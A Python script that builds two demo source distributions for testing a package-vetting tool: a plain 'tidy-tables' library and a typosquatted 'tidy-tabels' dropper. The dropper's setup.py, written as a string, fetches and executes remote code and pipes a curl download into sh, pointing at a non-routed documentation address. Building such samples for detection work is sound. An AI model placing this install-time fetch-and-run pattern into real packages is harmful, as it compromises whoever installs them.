"""Build the demo's two vetting samples: a plain library and an install-time dropper.

Both are source distributions written in memory and saved as .tar.gz files.
Neither is ever installed or run: the dropper's setup.py would fetch code from
a documentation-only address (TEST-NET-3, never routed) and execute it, which is
exactly what `assay vet` must catch without running anything.
"""

from __future__ import annotations

import io
import sys
import tarfile
from pathlib import Path

PLAIN = {
    "setup.py": "from setuptools import setup\n\nsetup(name='tidy-tables', version='1.0')\n",
    "tidy_tables/__init__.py": "def total(rows):\n    return sum(r['amount'] for r in rows)\n",
}
DROPPER = {
    "setup.py": (
        "import os, urllib.request\n"
        "from setuptools import setup\n\n"
        "payload = urllib.request.urlopen('http://203.0.113.7/stage2').read()\n"
        "exec(payload)\n"
        "os.system('curl -s http://203.0.113.7/k | sh')\n\n"
        "setup(name='tidy-tabels', version='1.0')\n"
    ),
    "tidy_tabels/__init__.py": "",
}


def sdist(name: str, files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in sorted(files.items()):
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-1.0/{path}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def main(directory: str) -> None:
    target = Path(directory)
    target.mkdir(parents=True, exist_ok=True)
    (target / "tidy_tables-1.0.tar.gz").write_bytes(sdist("tidy_tables", PLAIN))
    (target / "tidy_tabels-1.0.tar.gz").write_bytes(sdist("tidy_tabels", DROPPER))
    print(f"wrote {target}/tidy_tables-1.0.tar.gz and {target}/tidy_tabels-1.0.tar.gz")


if __name__ == "__main__":
    main(sys.argv[1])
